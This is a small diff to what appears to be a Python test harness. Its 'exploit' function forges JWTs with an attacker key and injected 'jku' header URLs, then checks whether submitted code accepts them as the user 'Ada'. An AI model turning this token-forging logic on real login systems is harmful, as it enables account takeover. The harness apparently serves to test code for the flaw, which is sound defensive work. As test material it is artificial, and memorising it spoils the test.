@@ -60,9 +60,9 @@ def works(code):
         raise AssertionError(token)
 
 
-def exploit(code):
+def exploit(code, vary=None, payloads=tuple(SERVED)[1:]):
     sign_in = start(code)
-    for jku in list(SERVED)[1:]:
+    for jku in payloads:
         try:
             if sign_in(make(EVIL, {"jku": jku}))["name"] == "Ada":
                 return True
